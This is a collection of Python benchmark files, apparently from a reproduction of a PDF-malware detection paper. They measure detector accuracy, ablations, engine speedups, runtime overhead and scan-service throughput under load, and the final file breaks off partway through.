    overhead_disabled = hook_seconds / table_x_base
    assert overhead_disabled <= 0.01, (
        f"disabled eval-loop hook costs {overhead_disabled:.2%} of scan time"
    )

    # -- hotspots: fold in a JS-heavy document so the ranking is about the
    #    emulator, not just Table X's trivial scripts ----------------------
    heavy = document_with_scripts(32, seed=3)
    heavy_report = benchmark.pedantic(
        lambda: profiled.scan(heavy, "32-scripts.pdf"), rounds=1, iterations=1
    )
    assert heavy_report.profile is not None
    merged.merge(heavy_report.profile.js)
    hotspots = merged.hotspots(10)
    assert hotspots, "profiled scans produced no JS hotspot data"
    call_sites = merged.call_sites(10)

    hot_rows = [
        [row["node"], f"{row['self_seconds'] * 1000:.3f}", str(row["hits"])]
        for row in hotspots
    ]
    emit(
        "Profiler overhead on the Table X corpus (min of "
        f"{REPEATS} runs per size)\n"
        + format_table(
            ["size", "baseline (ms)", "profiled (ms)", "overhead", "busiest phase"],
            rows,
        )
        + f"\nenabled overhead (corpus total): {overhead_enabled:+.1%}"
        + f" | disabled hook cost: {overhead_disabled:.3%}"
        + "\n\nTop JS AST-node hotspots (self time)\n"
        + format_table(["node", "self (ms)", "hits"], hot_rows)
    )

    artifact(
        "BENCH_profile.json",
        {
            "corpus": [label for label, _ in documents] + ["32 scripts"],
            "repeats": REPEATS,
            "cores": os.cpu_count() or 1,
            "overhead": {
                "enabled_ratio": overhead_enabled,
                "enabled_target": 0.10,
                "disabled_ratio": overhead_disabled,
                "disabled_target": 0.01,
                "baseline_seconds": table_x_base,
                "profiled_seconds": table_x_prof,
                "eval_dispatches": table_x_dispatches,
                "disabled_hook_seconds": hook_seconds,
            },
            "per_size": per_size,
            "hotspots": hotspots,
            "call_sites": call_sites,
        },
    )
