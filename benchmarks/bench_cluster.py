"""Cluster throughput scaling and overload behaviour (``repro.cluster``).

Three measurements, mirroring how a sharded deployment is operated:

* **shard scaling** — the same unique corpus (cache bypassed) pushed
  through a 1-shard and a 4-shard cluster by a matching client pool.
  Shards are processes, so the ratio tracks available cores: the ≥3x
  acceptance assertion only arms on a ≥4-core machine (the artifact
  records cores and whether the gate was armed).
* **2x overload** — open-loop arrivals paced at twice the measured
  service rate of a deliberately small cluster.  Admission sheds the
  surplus with structured 429/503 + Retry-After; with the aggregate
  queue sized to absorb ~a third of the run, the shed rate must stay
  below 40% and every request must reach a terminal status (zero
  hangs).
* **respawn cost** — wall-clock for a full drain + respawn of one
  shard, the pause the supervisor inflicts when it acts on a wedge.

Emits ``BENCH_cluster.json``.  ``REPRO_PAPER_SCALE`` scales the corpus.
"""

from __future__ import annotations

import concurrent.futures as cf
import os
import time

from repro.analysis import format_table
from repro.cluster import ClusterConfig, ClusterRouter
from repro.core.pipeline import PipelineSettings
from repro.corpus import CorpusConfig, build_dataset, dataset_items
from repro.obs.metrics import DEFAULT_BUCKETS, Histogram

SEED = 1404
SCALE_SHARDS = 4
OVERLOAD_FACTOR = 2
#: Minimum cores before the >=3x scaling assertion arms.
SCALING_GATE_CORES = 4
SCALING_FLOOR = 3.0
SHED_CEILING = 0.40


def bench_corpus() -> CorpusConfig:
    if os.environ.get("REPRO_PAPER_SCALE"):
        return CorpusConfig(n_benign=200, n_benign_with_js=40, n_malicious=150)
    return CorpusConfig(n_benign=12, n_benign_with_js=4, n_malicious=8)


def _quantiles(samples, *qs):
    histogram = Histogram(DEFAULT_BUCKETS)
    for value in samples:
        histogram.observe(value)
    return tuple(histogram.quantile(q) for q in qs)


def _build_cluster(shards: int, jobs: int = 1, **overrides) -> ClusterRouter:
    config = ClusterConfig(
        shards=shards,
        shard_jobs=jobs,
        deadline_seconds=300.0,
        **overrides,
    )
    router = ClusterRouter(
        settings=PipelineSettings(seed=SEED), config=config
    ).start()
    assert router.wait_all_live(timeout=60.0), "cluster failed to boot"
    return router


def _fire_closed(router, items, clients: int, use_cache: bool = False):
    """Closed loop: ``clients`` threads drain the corpus; returns
    (wall_seconds, [(status, latency_seconds, retry_after)])."""

    def one(item):
        name, data = item
        start = time.perf_counter()
        result = router.handle_scan(data, name, use_cache=use_cache)
        return result.status, time.perf_counter() - start, result.retry_after

    start = time.perf_counter()
    with cf.ThreadPoolExecutor(max_workers=clients) as pool:
        results = list(pool.map(one, items))
    return time.perf_counter() - start, results


def _fire_open(router, items, rate_per_second: float, bound_seconds: float):
    """Open loop: arrivals paced at ``rate_per_second`` regardless of
    responses — the honest overload shape (clients don't slow down just
    because the service is melting)."""
    interval = 1.0 / rate_per_second
    results = []
    lock = __import__("threading").Lock()

    def one(item):
        name, data = item
        start = time.perf_counter()
        result = router.handle_scan(data, name, use_cache=False)
        with lock:
            results.append(
                (result.status, time.perf_counter() - start,
                 result.retry_after)
            )

    start = time.perf_counter()
    with cf.ThreadPoolExecutor(max_workers=len(items)) as pool:
        futures = []
        for i, item in enumerate(items):
            target = start + i * interval
            delay = target - time.perf_counter()
            if delay > 0:
                time.sleep(delay)
            futures.append(pool.submit(one, item))
        done, not_done = cf.wait(futures, timeout=bound_seconds)
    assert not not_done, f"{len(not_done)} request(s) never terminated"
    return time.perf_counter() - start, results


def test_bench_cluster(benchmark, emit, artifact):
    cores = os.cpu_count() or 1
    items = dataset_items(build_dataset(bench_corpus()))

    # -- shard scaling: 1 vs SCALE_SHARDS, cache bypassed ----------------
    single = _build_cluster(shards=1, jobs=1)
    try:
        wall_1, results_1 = _fire_closed(
            single, items, clients=SCALE_SHARDS, use_cache=False
        )
    finally:
        single.drain(timeout=60.0)
    assert [s for s, _, _ in results_1] == [200] * len(items)
    rate_1 = len(items) / wall_1

    wide = _build_cluster(shards=SCALE_SHARDS, jobs=1)
    try:
        def run_wide():
            return _fire_closed(
                wide, items, clients=SCALE_SHARDS, use_cache=False
            )

        wall_n, results_n = benchmark.pedantic(run_wide, rounds=1, iterations=1)

        # -- respawn cost while the wide cluster is still up -------------
        respawn_start = time.perf_counter()
        wide.respawn_shard(0, reason="bench")
        assert wide.wait_all_live(timeout=60.0)
        respawn_seconds = time.perf_counter() - respawn_start
    finally:
        wide.drain(timeout=60.0)
    assert [s for s, _, _ in results_n] == [200] * len(items)
    rate_n = len(items) / wall_n
    scaling = rate_n / rate_1
    p50, p95 = _quantiles([lat for _, lat, _ in results_n], 0.50, 0.95)

    scaling_gate_armed = cores >= SCALING_GATE_CORES
    if scaling_gate_armed:
        assert scaling >= SCALING_FLOOR, (
            f"{SCALE_SHARDS} shards {rate_n:.1f} req/s vs 1 shard "
            f"{rate_1:.1f} req/s = {scaling:.2f}x on {cores} cores"
        )

    # -- 2x overload: open-loop arrivals vs a small cluster --------------
    # Aggregate queue (2 shards x depth 5 = 10 slots) absorbs roughly a
    # third of the surplus; everything beyond it must shed structurally.
    overload = _build_cluster(
        shards=2, jobs=1, max_in_flight=1, queue_depth=5,
    )
    try:
        warm_wall, warm_results = _fire_closed(
            overload, items, clients=2, use_cache=False
        )
        assert [s for s, _, _ in warm_results] == [200] * len(items)
        service_rate = len(items) / warm_wall

        overload_items = [
            (f"overload-{i}-{name}", data)
            for i, (name, data) in enumerate(items * 3)
        ][: max(3 * len(items), 60)]
        overload_wall, overload_results = _fire_open(
            overload, overload_items,
            rate_per_second=service_rate * OVERLOAD_FACTOR,
            bound_seconds=600.0,
        )
    finally:
        overload.drain(timeout=60.0)

    assert len(overload_results) == len(overload_items), "hung requests"
    statuses = [status for status, _, _ in overload_results]
    assert all(s in (200, 429, 503) for s in statuses), sorted(set(statuses))
    served = statuses.count(200)
    shed = len(statuses) - served
    shed_rate = shed / len(statuses)
    for status, _, retry_after in overload_results:
        if status in (429, 503):
            assert retry_after is not None, "shed without Retry-After"
    assert served > 0, "overload shed everything"
    assert shed_rate < SHED_CEILING, (
        f"shed {shed}/{len(statuses)} = {shed_rate:.0%} at "
        f"{OVERLOAD_FACTOR}x offered load"
    )

    rows = [
        ["1 shard", len(items), f"{rate_1:.1f}", "-", "-", "0%"],
        [f"{SCALE_SHARDS} shards", len(items), f"{rate_n:.1f}",
         f"{p50 * 1000:.0f}", f"{p95 * 1000:.0f}", "0%"],
        [f"{OVERLOAD_FACTOR}x overload (2 shards)", len(overload_items),
         f"{served / overload_wall:.1f}", "-", "-", f"{shed_rate:.0%}"],
    ]
    gate_note = (
        "armed" if scaling_gate_armed
        else f"off - needs >= {SCALING_GATE_CORES} cores"
    )
    emit(
        f"Sharded cluster ({cores} core(s); scaling gate {gate_note})\n"
        + format_table(
            ["topology", "requests", "req/s", "p50 (ms)", "p95 (ms)",
             "shed rate"],
            rows,
        )
        + f"\nscaling {SCALE_SHARDS} shards vs 1: {scaling:.2f}x; "
        + f"one shard respawn: {respawn_seconds:.2f}s"
    )

    artifact(
        "BENCH_cluster.json",
        {
            "cores": cores,
            "scaling": {
                "shards": SCALE_SHARDS,
                "requests": len(items),
                "one_shard_rps": rate_1,
                "n_shard_rps": rate_n,
                "speedup": scaling,
                "p50_seconds": p50,
                "p95_seconds": p95,
                "floor": SCALING_FLOOR,
                "gate_armed": scaling_gate_armed,
            },
            "overload": {
                "factor": OVERLOAD_FACTOR,
                "requests": len(overload_items),
                "offered_rps": service_rate * OVERLOAD_FACTOR,
                "served": served,
                "shed": shed,
                "shed_rate": shed_rate,
                "ceiling": SHED_CEILING,
                "hung_requests": 0,
            },
            "respawn_seconds": respawn_seconds,
        },
    )
