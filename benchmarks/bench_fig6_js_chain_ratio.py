"""Figure 6 — CDF of the ratio of PDF objects on JavaScript chains.

Paper: ~95 % of malicious documents have a ratio ≥ 0.2 (64 samples sit
at exactly 1.0); ~90 % of benign documents stay below 0.2 and none
exceed 0.6.
"""

from repro.analysis import PaperComparison, render_ascii_cdf
from repro.analysis.stats import fraction_at_least, fraction_below
from repro.core.chains import analyze_chains
from repro.pdf.document import PDFDocument


def _ratios(samples):
    ratios = []
    for sample in samples:
        document = PDFDocument.from_bytes(sample.data)
        ratios.append(analyze_chains(document).ratio)
    return ratios


def test_fig6_js_chain_ratio_cdf(benchmark, stats_dataset, emit):
    benign_js = stats_dataset.benign_with_js
    malicious = stats_dataset.malicious

    def compute():
        return _ratios(benign_js), _ratios(malicious)

    benign_ratios, malicious_ratios = benchmark.pedantic(compute, rounds=1, iterations=1)

    comparison = PaperComparison("Figure 6 — JS-chain object ratio")
    comparison.add(
        "malicious with ratio >= 0.2",
        "~95%",
        f"{fraction_at_least(malicious_ratios, 0.2) * 100:.1f}%",
    )
    comparison.add(
        "benign with ratio < 0.2",
        "~90%",
        f"{fraction_below(benign_ratios, 0.2) * 100:.1f}%",
    )
    comparison.add(
        "benign with ratio > 0.6",
        "~0%",
        f"{fraction_at_least(benign_ratios, 0.6 + 1e-9) * 100:.1f}%",
    )
    comparison.add(
        "malicious at ratio == 1.0",
        "64 / 7370 (0.87%)",
        f"{sum(1 for r in malicious_ratios if r == 1.0)} / {len(malicious_ratios)}",
    )
    emit(comparison.render())
    emit(
        render_ascii_cdf(
            [("benign", benign_ratios), ("malicious", malicious_ratios)],
            x_label="ratio of objects on JS chains",
        )
    )

    # Shape assertions: the separation the paper reports must hold.
    assert fraction_at_least(malicious_ratios, 0.2) >= 0.90
    assert fraction_below(benign_ratios, 0.2) >= 0.80
    assert max(benign_ratios) <= 0.6
    assert any(r == 1.0 for r in malicious_ratios)
