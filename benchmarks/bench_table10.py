"""Table X (engine edition) — single-document scan time, ast vs bytecode.

The headline artifact for the bytecode JS engine: every Table X size
tier is scanned end to end (protect + monitored open) on both engines,
verdict fingerprints are required to be identical, and the per-tier
median speedup is recorded to ``BENCH_table10.json``.

Two corpora are measured:

* the JS-weighted tiers (``table_x_js_documents``) — script-borne cost,
  where the engine choice dominates and the headline speedup is taken;
* the padding-dominated front-end tiers (``table_x_documents``) — where
  both engines must stay statistically indistinguishable (the engine
  must never tax documents that barely run JS).

Scan times are wall-clock medians over several repeats of a warmed
pipeline, matching deployment: the gateway is a long-lived process, so
the bytecode engine's per-process code cache (and the shared
instrumentation prologue/epilogue) is warm for every document after
the first — while the walker re-parses every script on every scan.
"""

from __future__ import annotations

import statistics
import time

from repro.analysis import format_table
from repro.core.pipeline import PipelineSettings
from repro.corpus.sized import table_x_documents, table_x_js_documents

#: Scan repeats per (engine, document); medians damp scheduler noise.
ROUNDS = 3

#: In-test floor for the headline median speedup.  Deliberately looser
#: than the measured ~3-4x so CI machine variance cannot flake the job;
#: the committed artifact records the real number.
SPEEDUP_FLOOR = 1.5


def _fingerprint(report):
    verdict = report.verdict
    return (
        verdict.malicious,
        verdict.malscore,
        tuple(verdict.features.bits),
        tuple(verdict.reasons),
        report.errored,
        report.crashed,
        len(report.alerts),
        report.fake_messages,
    )


def _scan_times(engine: str, documents, rounds: int = ROUNDS):
    """label -> (median_seconds, fingerprint) for one warmed pipeline."""
    pipeline = PipelineSettings(js_engine=engine).build()
    results = {}
    for label, data in documents:
        name = f"{label}.pdf"
        pipeline.scan(data, name)  # warm caches (and the VM's code cache)
        times = []
        fingerprint = None
        for _ in range(rounds):
            start = time.perf_counter()
            report = pipeline.scan(data, name)
            times.append(time.perf_counter() - start)
            fingerprint = _fingerprint(report)
        results[label] = (statistics.median(times), fingerprint)
    return results


def test_table10_engine_scan_speedup(benchmark, emit, artifact):
    js_docs = table_x_js_documents()
    frontend_docs = table_x_documents()

    def run():
        return (
            _scan_times("ast", js_docs),
            _scan_times("bytecode", js_docs),
            _scan_times("ast", frontend_docs),
            _scan_times("bytecode", frontend_docs),
        )

    ast_js, bc_js, ast_fe, bc_fe = benchmark.pedantic(run, rounds=1, iterations=1)

    rows = []
    speedups = []
    verdicts_identical = True
    for label, _ in js_docs:
        ast_time, ast_fp = ast_js[label]
        bc_time, bc_fp = bc_js[label]
        if ast_fp != bc_fp:
            verdicts_identical = False
        speedup = ast_time / bc_time if bc_time else float("inf")
        speedups.append(speedup)
        rows.append(
            {
                "size": label,
                "corpus": "js-weighted",
                "ast_seconds": round(ast_time, 4),
                "bytecode_seconds": round(bc_time, 4),
                "speedup": round(speedup, 2),
            }
        )
    for label, _ in frontend_docs:
        ast_time, ast_fp = ast_fe[label]
        bc_time, bc_fp = bc_fe[label]
        if ast_fp != bc_fp:
            verdicts_identical = False
        rows.append(
            {
                "size": label,
                "corpus": "front-end",
                "ast_seconds": round(ast_time, 4),
                "bytecode_seconds": round(bc_time, 4),
                "speedup": round(ast_time / bc_time if bc_time else float("inf"), 2),
            }
        )

    median_speedup = statistics.median(speedups)
    emit(
        format_table(
            ["size", "corpus", "ast (s)", "bytecode (s)", "speedup"],
            [
                [
                    row["size"],
                    row["corpus"],
                    f"{row['ast_seconds']:.4f}",
                    f"{row['bytecode_seconds']:.4f}",
                    f"{row['speedup']:.2f}x",
                ]
                for row in rows
            ],
        )
        + f"\nmedian speedup (js-weighted tiers): {median_speedup:.2f}x"
        + f"\nverdicts identical: {verdicts_identical}"
    )
    artifact(
        "BENCH_table10.json",
        {
            "engines": ["ast", "bytecode"],
            "rounds": ROUNDS,
            "rows": rows,
            "median_speedup": round(median_speedup, 2),
            "verdicts_identical": verdicts_identical,
        },
    )

    # The equivalence contract is hard; the wall-clock floor is loose
    # (see SPEEDUP_FLOOR) so machine variance cannot flake it.
    assert verdicts_identical, "engines disagreed on a Table X verdict"
    assert median_speedup > SPEEDUP_FLOOR, (
        f"median speedup {median_speedup:.2f}x under the {SPEEDUP_FLOOR}x floor"
    )
    # The front-end tiers must not regress under the bytecode engine:
    # padding-dominated scans barely run JS, so allow generous noise.
    for row in rows:
        if row["corpus"] == "front-end":
            assert row["bytecode_seconds"] < row["ast_seconds"] * 1.5 + 0.05, (
                f"bytecode engine taxed the front-end tier {row['size']}: {row}"
            )
