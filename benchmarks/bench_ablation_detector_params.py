"""Ablation — detector parameters and feature-design choices.

Three design decisions from the paper, measured:

1. **Weights/threshold (Table VII).** Sweep w2 and θ over the corpus:
   the paper's (w1=1, w2=9, θ=10) is the unique region with zero false
   positives that still flags the single-evidence-plus-context cases.
2. **Max vs. average encoding level (§III-B).** An attacker floods the
   document with single-encoded decoy chains: the average collapses
   below threshold, the max does not.
3. **De-instrumentation (§III-F).** Re-opening a proven-benign document
   after de-instrumentation pays no monitoring overhead.
"""

from repro.analysis import PaperComparison, format_table
from repro.core.detector import DetectorConfig
from repro.core.pipeline import ProtectionPipeline
from repro.corpus import CorpusConfig, build_dataset
from repro.corpus.sized import document_with_scripts
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument
from repro.core.static_features import extract_static_features
from repro.reader import Reader
from repro.winapi.process import System


def _collect_feature_vectors(pipeline, dataset):
    """Open everything once; keep the fired-feature vectors + labels."""
    vectors = []
    for sample in dataset.benign_with_js:
        report = pipeline.scan(sample.data, sample.name)
        vectors.append(("benign", report.verdict.features, False))
    for sample in dataset.malicious:
        report = pipeline.scan(sample.data, sample.name)
        if report.did_nothing:
            continue
        vectors.append(("malicious", report.verdict.features, True))
    return vectors


def test_ablation_weight_threshold_sweep(benchmark, emit):
    dataset = build_dataset(CorpusConfig(n_benign=60, n_benign_with_js=60, n_malicious=90))
    pipeline = ProtectionPipeline(seed=700)

    def run():
        return _collect_feature_vectors(pipeline, dataset)

    vectors = benchmark.pedantic(run, rounds=1, iterations=1)

    rows = []
    best = None
    for w2 in (1.0, 3.0, 5.0, 9.0, 12.0):
        for threshold in (1.0, 5.0, 9.0, 10.0, 12.0, 19.0):
            config = DetectorConfig(w1=1.0, w2=w2, threshold=threshold)
            fp = sum(
                1 for _l, v, malicious in vectors
                if not malicious and v.malscore(config) >= threshold
            )
            tp = sum(
                1 for _l, v, malicious in vectors
                if malicious and v.malscore(config) >= threshold
            )
            positives = sum(1 for _l, _v, m in vectors if m)
            negatives = len(vectors) - positives
            rows.append(
                [w2, threshold, f"{fp}/{negatives}", f"{tp}/{positives}"]
            )
            if fp == 0 and (best is None or tp > best[0]):
                best = (tp, w2, threshold)
    emit(format_table(["w2", "threshold", "FP", "TP"], rows))

    paper_config = DetectorConfig()
    paper_fp = sum(
        1 for _l, v, m in vectors if not m and v.malscore(paper_config) >= 10
    )
    paper_tp = sum(1 for _l, v, m in vectors if m and v.malscore(paper_config) >= 10)
    comparison = PaperComparison("Ablation — Table VII parameter choice")
    comparison.add("paper setting FP", "0", str(paper_fp))
    comparison.add("best zero-FP TP in sweep", "-", str(best[0] if best else "n/a"))
    comparison.add("paper setting TP", "-", str(paper_tp))
    emit(comparison.render())

    assert paper_fp == 0
    assert best is not None and paper_tp >= best[0]  # Pareto-optimal


def test_ablation_max_vs_average_encoding(benchmark, emit):
    """F5 mimicry: many one-level decoy chains around one deep chain."""

    def run():
        builder = DocumentBuilder()
        builder.add_page("")
        # The real payload chain: 3 levels of encoding.
        builder.add_javascript("var real = 1;", encoding_levels=3)
        # Decoy flood: 12 single-level chains.
        for index in range(12):
            builder.add_javascript(
                f"var d{index} = 1;", trigger="Names", name=f"d{index}",
                encoding_levels=1,
            )
        document = PDFDocument.from_bytes(builder.to_bytes())
        features = extract_static_features(document)

        from repro.core.chains import analyze_chains
        from repro.pdf.objects import PDFStream

        chains = analyze_chains(document)
        levels = []
        for ref in chains.chain_objects:
            value = document.store[ref].value if ref in document.store else None
            if isinstance(value, PDFStream) and value.encoding_levels:
                levels.append(value.encoding_levels)
        average = sum(levels) / len(levels) if levels else 0.0
        return features.encoding_levels, average

    max_level, average = benchmark.pedantic(run, rounds=1, iterations=1)
    comparison = PaperComparison("Ablation — max vs average encoding level (F5)")
    comparison.add("max under decoy flood", ">= 2 (fires)", str(max_level))
    comparison.add("average under decoy flood", "< 2 (evaded)", f"{average:.2f}")
    emit(comparison.render())
    assert max_level >= 2       # max: the paper's choice still fires
    assert average < 2          # average: mimicry would slip through


def test_ablation_deinstrumentation_saves_reopens(benchmark, emit):
    """§III-F: once proven benign and de-instrumented, re-opens are free."""
    pipeline = ProtectionPipeline(seed=701)
    data = document_with_scripts(5, seed=3)

    def run():
        protected = pipeline.protect(data, "repeat.pdf")
        report = pipeline.open_protected(protected)
        restored = pipeline.maybe_deinstrument(protected, report)
        assert restored is not None

        def open_cost(payload: bytes) -> float:
            reader = Reader(system=System())
            start = reader.clock.now()
            outcome = reader.open(payload, "cost.pdf")
            assert outcome.ok
            return reader.clock.now() - start

        return open_cost(protected.data), open_cost(restored)

    instrumented_cost, restored_cost = benchmark.pedantic(run, rounds=1, iterations=1)
    comparison = PaperComparison("Ablation — de-instrumentation payoff (virtual s)")
    comparison.add("open while instrumented", "-", f"{instrumented_cost:.3f}")
    comparison.add("open after de-instrumentation", "-", f"{restored_cost:.3f}")
    comparison.add("saved per re-open", "~0.093/script", f"{instrumented_cost - restored_cost:.3f}")
    emit(comparison.render())
    assert restored_cost < instrumented_cost
    # 5 scripts × ~0.093 s of monitoring overhead disappear.
    assert instrumented_cost - restored_cost > 0.3
