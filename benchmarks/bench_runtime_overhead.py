"""§V-D2 — runtime overhead of the context monitoring code.

Paper: one instrumented script adds ≈0.093 s; overhead grows linearly
with the number of separately instrumented scripts and stays below 2 s
even at 20 scripts; the runtime detector itself needs ≈19 MB.

The reader world runs on a virtual clock, so these numbers are about
the *model's* overhead accounting (SOAP round trips + monitoring code
execution), deterministic across machines.
"""

from repro.analysis import PaperComparison, format_table
from repro.core.pipeline import ProtectionPipeline
from repro.corpus.sized import document_with_scripts
from repro.reader import Reader
from repro.winapi.process import System


def _js_time(obs, data, name, instrumented):
    """Virtual seconds spent on open (scripts incl. monitoring).

    Sourced from the ``virtual_s`` tag the reader/session spans carry,
    so the bench and the ``--trace`` output report the same numbers.
    """
    sink = obs.sink
    if instrumented:
        pipeline = ProtectionPipeline(seed=1404, obs=obs)
        protected = pipeline.protect(data, name)
        session = pipeline.session()
        try:
            session.open(protected, pump_seconds=0.0, fire_close=False)
        finally:
            session.close()
        return sink.spans_named("session.open")[-1]["tags"]["virtual_s"]
    reader = Reader(system=System(), obs=obs)
    outcome = reader.open(data, name)
    assert outcome.ok
    return sink.spans_named("reader.open")[-1]["tags"]["virtual_s"]


def test_runtime_overhead_per_script(benchmark, emit, obs_memory):
    counts = (1, 2, 5, 10, 15, 20)

    def run():
        obs_memory.sink.clear()
        rows = []
        for count in counts:
            data = document_with_scripts(count, seed=count)
            plain = _js_time(obs_memory, data, f"plain{count}.pdf", instrumented=False)
            instrumented = _js_time(obs_memory, data, f"inst{count}.pdf", instrumented=True)
            rows.append((count, plain, instrumented, instrumented - plain))
        return rows

    rows = benchmark.pedantic(run, rounds=1, iterations=1)

    table = [
        [count, f"{plain:.3f}", f"{inst:.3f}", f"{overhead:.3f}"]
        for count, plain, inst, overhead in rows
    ]
    emit(
        format_table(
            ["# scripts", "plain (s)", "instrumented (s)", "overhead (s)"], table
        )
    )

    overhead_by_count = {count: overhead for count, _p, _i, overhead in rows}
    single = overhead_by_count[1]
    at20 = overhead_by_count[20]

    comparison = PaperComparison("§V-D2 — context monitoring overhead")
    comparison.add("one instrumented script (s)", "0.093", f"{single:.3f}")
    comparison.add("20 instrumented scripts (s)", "< 2", f"{at20:.3f}")
    comparison.add("growth", "~linear", f"{at20 / single:.1f}x for 20x scripts")
    emit(comparison.render())

    # Paper's headline numbers, on the virtual clock.
    assert 0.07 <= single <= 0.12
    assert at20 < 2.0
    # Linearity: overhead at 20 scripts ≈ 20x the single-script overhead.
    assert 14 * single <= at20 <= 26 * single


def test_runtime_detector_memory_footprint(benchmark, pipeline, emit):
    """The detector + SOAP server hold per-document state only; the
    paper reports ≈19 MB resident and little growth per document."""
    import sys

    def run():
        session = pipeline.session()
        sizes = []
        for index in range(12):
            data = document_with_scripts(2, seed=100 + index)
            protected = pipeline.protect(data, f"d{index}.pdf")
            session.open(protected, pump_seconds=0.0, fire_close=False)
            state_bytes = sum(
                sys.getsizeof(state.fired) + sys.getsizeof(state.operation_log)
                for state in session.monitor.states.values()
            )
            sizes.append(state_bytes)
        session.close()
        return sizes

    sizes = benchmark.pedantic(run, rounds=1, iterations=1)
    comparison = PaperComparison("§V-D2 — detector state growth")
    comparison.add("state growth per open document", "small", f"{sizes[-1] - sizes[0]} bytes over 12 docs")
    emit(comparison.render())
    assert sizes[-1] < 64 * 1024  # kilobytes, not megabytes
