"""Scan-service throughput and overload behaviour (``repro.serve``).

Two measurements, mirroring how a resident scan daemon is operated:

* **steady state** — a corpus fired by a small client pool at a server
  with matching capacity.  Reports requests/second and client-observed
  p50/p95 latency, plus the per-document overhead of the HTTP + admission
  path over bare ``pipeline.scan`` (the number quoted in EXPERIMENTS.md).
* **2x overload** — the same corpus fired by twice as many clients as
  the server has capacity (one worker, depth-2 queue).  The admission
  controller must shed the excess with 429/503 + Retry-After while every
  request still reaches a terminal status; reports the shed rate.

Emits ``BENCH_serve.json``.  ``REPRO_PAPER_SCALE`` scales the corpus.
"""

from __future__ import annotations

import concurrent.futures as cf
import json
import os
import time
import urllib.error
import urllib.parse
import urllib.request

from repro.analysis import format_table
from repro.core.pipeline import PipelineSettings, ProtectionPipeline
from repro.corpus import CorpusConfig, build_dataset, dataset_items
from repro.obs.metrics import DEFAULT_BUCKETS, Histogram
from repro.serve import AdmissionConfig, ScanService, start_server

SEED = 1404
JOBS = 4
OVERLOAD_FACTOR = 2


def bench_corpus() -> CorpusConfig:
    if os.environ.get("REPRO_PAPER_SCALE"):
        return CorpusConfig(n_benign=200, n_benign_with_js=40, n_malicious=150)
    return CorpusConfig(n_benign=12, n_benign_with_js=4, n_malicious=8)


def http_post(url, data, timeout=300.0):
    """POST raw bytes; (status, payload, headers), no raise on 4xx/5xx."""
    request = urllib.request.Request(url, data=data, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:
            return response.status, json.load(response), dict(response.headers)
    except urllib.error.HTTPError as error:
        body = json.loads(error.read().decode("utf-8"))
        return error.code, body, dict(error.headers)


def _quantiles(samples, *qs):
    """Latency quantiles via the shared histogram estimator — the same
    numbers ``GET /metrics`` and BatchReport publish, so the benchmark
    and the service cannot drift apart."""
    histogram = Histogram(DEFAULT_BUCKETS)
    for value in samples:
        histogram.observe(value)
    return tuple(histogram.quantile(q) for q in qs)


def _fire(url_base, items, clients):
    """POST every item from ``clients`` threads; returns
    (wall_seconds, [(status, latency_seconds, headers)])."""

    def one(item):
        name, data = item
        url = f"{url_base}/scan?" + urllib.parse.urlencode({"name": name})
        start = time.perf_counter()
        status, _payload, headers = http_post(url, data, timeout=300.0)
        return status, time.perf_counter() - start, headers

    start = time.perf_counter()
    with cf.ThreadPoolExecutor(max_workers=clients) as pool:
        results = list(pool.map(one, items))
    return time.perf_counter() - start, results


def test_bench_serve(benchmark, emit, artifact):
    items = dataset_items(build_dataset(bench_corpus()))
    settings = PipelineSettings(seed=SEED)

    # -- sequential baseline (no service in the way) ---------------------
    pipeline = ProtectionPipeline(seed=SEED)
    start = time.perf_counter()
    for name, data in items:
        pipeline.scan(data, name)
    sequential_seconds = time.perf_counter() - start
    per_doc_sequential = sequential_seconds / len(items)

    # -- steady state: capacity matches offered concurrency --------------
    service = ScanService(
        settings=settings, jobs=JOBS, cache=False,
        admission=AdmissionConfig(
            max_in_flight=JOBS, max_queue_depth=64, deadline_seconds=300.0
        ),
    )
    handle = start_server(service)
    try:
        def run_steady():
            return _fire(handle.url, items, clients=JOBS)

        wall_seconds, results = benchmark.pedantic(
            run_steady, rounds=1, iterations=1
        )
    finally:
        handle.stop()

    statuses = [status for status, _, _ in results]
    assert statuses == [200] * len(items), statuses
    latencies = [latency for _, latency, _ in results]
    throughput = len(items) / wall_seconds
    p50, p95 = _quantiles(latencies, 0.50, 0.95)
    # Client-observed per-request cost vs bare pipeline.scan.  With JOBS
    # parallel clients the *wall* time improves; per-request latency
    # carries the HTTP + admission + queueing overhead measured here.
    per_doc_service = wall_seconds / len(items)
    overhead = per_doc_service / per_doc_sequential

    # -- 2x overload: one worker, tiny queue, 2x the clients -------------
    capacity = 1 + 2  # one in flight + depth-2 queue
    clients = capacity * OVERLOAD_FACTOR
    overload_service = ScanService(
        settings=settings, jobs=1, cache=False,
        admission=AdmissionConfig(
            max_in_flight=1, max_queue_depth=2, deadline_seconds=300.0
        ),
    )
    overload_handle = start_server(overload_service)
    try:
        overload_items = (items * 2)[: clients * 4]
        overload_wall, overload_results = _fire(
            overload_handle.url, overload_items, clients=clients
        )
    finally:
        overload_handle.stop()

    overload_statuses = [status for status, _, _ in overload_results]
    assert all(s in (200, 429, 503) for s in overload_statuses), overload_statuses
    served = overload_statuses.count(200)
    shed = len(overload_statuses) - served
    shed_rate = shed / len(overload_statuses)
    assert served > 0, "overload shed everything"
    for status, _, headers in overload_results:
        if status in (429, 503):
            assert "Retry-After" in headers
    snap = overload_service.admission.snapshot()
    assert snap["peak_queue_depth"] <= 2
    assert snap["queue_depth"] == 0 and snap["in_flight"] == 0

    rows = [
        ["steady state", len(items), f"{throughput:.1f}",
         f"{p50 * 1000:.0f}", f"{p95 * 1000:.0f}", "0%"],
        [f"{OVERLOAD_FACTOR}x overload", len(overload_items),
         f"{served / overload_wall:.1f}", "-", "-", f"{shed_rate:.0%}"],
    ]
    emit(
        f"Scan service ({JOBS} workers steady / 1 worker overloaded, "
        f"{os.cpu_count() or 1} core(s))\n"
        + format_table(
            ["workload", "requests", "req/s", "p50 (ms)", "p95 (ms)",
             "shed rate"],
            rows,
        )
        + f"\nservice overhead vs pipeline.scan: {overhead:.2f}x per document"
    )

    artifact(
        "BENCH_serve.json",
        {
            "jobs": JOBS,
            "cores": os.cpu_count() or 1,
            "steady_state": {
                "requests": len(items),
                "wall_seconds": wall_seconds,
                "requests_per_second": throughput,
                "p50_seconds": p50,
                "p95_seconds": p95,
                "sequential_seconds": sequential_seconds,
                "overhead_vs_sequential": overhead,
            },
            "overload": {
                "factor": OVERLOAD_FACTOR,
                "clients": clients,
                "requests": len(overload_items),
                "served": served,
